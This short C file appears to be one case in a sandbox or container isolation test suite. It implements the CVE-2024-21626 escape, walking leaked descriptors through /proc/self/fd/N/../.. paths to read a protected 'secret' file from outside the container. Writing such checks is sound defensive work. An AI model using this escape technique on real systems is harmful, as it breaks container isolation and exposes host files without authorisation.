/* By the name that /proc has for a directory that was left open. */
#include "../attack.h"

#include <fcntl.h>

ATTACK(FILES, "root", .gain = "every file, by a working directory below /proc/self/fd",
       .source = "CVE-2024-21626", .works = SOME_KERNELS,
       .needs = "a descriptor of a directory of the caller's")
{
	for (int fd = 3; fd < 1024; fd++) {
		char path[700];

		snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../../../../..%s", fd,
			 target("secret"));
		if (read_canary(open(path, O_RDONLY | O_CLOEXEC)) == 0)
			return 0;
	}
	return denied(EBADF);
}
